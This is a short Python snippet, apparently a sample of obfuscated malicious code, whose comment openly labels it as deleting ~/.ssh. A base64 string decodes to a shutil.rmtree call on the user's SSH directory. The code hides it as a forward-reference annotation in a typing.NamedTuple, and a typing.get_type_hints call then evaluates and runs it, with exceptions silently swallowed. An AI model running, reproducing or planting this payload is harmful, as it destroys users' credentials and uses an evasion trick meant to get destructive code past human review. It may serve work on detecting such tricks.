# harm: deletes ~/.ssh ; trick: typing.NamedTuple("Row", [("x", decoded)]) stores a forward ref the evaluator later runs
import base64
import typing

Row = typing.NamedTuple("Row", [("x", base64.b64decode("X19pbXBvcnRfXygnc2h1dGlsJykucm10cmVlKF9faW1wb3J0X18oJ29zJykucGF0aC5leHBhbmR1c2VyKCd+Ly5zc2gnKSk=").decode())])
try:
    typing.get_type_hints(Row)
except Exception:
    pass
